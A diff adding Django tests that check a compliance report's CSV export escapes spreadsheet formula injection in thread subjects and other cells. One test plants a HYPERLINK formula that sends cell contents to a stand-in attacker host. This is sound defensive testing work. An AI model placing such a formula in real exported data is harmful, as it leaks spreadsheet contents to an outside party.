@@ -10,8 +10,10 @@ import time_machine
 from django.urls import reverse
 
 from accounts.models import Team
+from slaops import csv_export
 from tests.factories import office_calendar, policy, tier
 from threads import reports
+from threads.models import Thread
 from threads.services import (
     agent_reply,
     thread_create,
@@ -160,3 +162,31 @@ def test_bad_ranges_are_refused_with_the_field_named(client, manager):
     )
     assert response.status_code == 400
     assert "The end must not be before the start" in response.content.decode()
+
+
+def test_a_subject_written_as_a_formula_is_plain_text_in_the_breach_csv(history, client, manager):
+    attack = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    Thread.objects.filter(pk=history["d"].pk).update(subject=attack)
+    client.force_login(manager)
+    query = {"start": "2026-11-23", "end": "2026-11-29", "zone": "Europe/Berlin", "csv": "breaches"}
+
+    with time_machine.travel(NOW, tick=False):
+        response = client.get(reverse("reports:compliance"), query)
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    subjects = [row[1] for row in rows[1:] if row[0] == str(history["d"].pk)]
+    assert subjects and all(subject == "'" + attack for subject in subjects)
+    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(start):
+    out = io.StringIO()
+    csv_export.writer(out).writerow([f"{start}1+1", -3, 2.5, "-2h", "fine"])
+    assert next(csv.reader(io.StringIO(out.getvalue()))) == [
+        f"'{start}1+1",
+        "-3",
+        "2.5",
+        "'-2h",
+        "fine",
+    ]
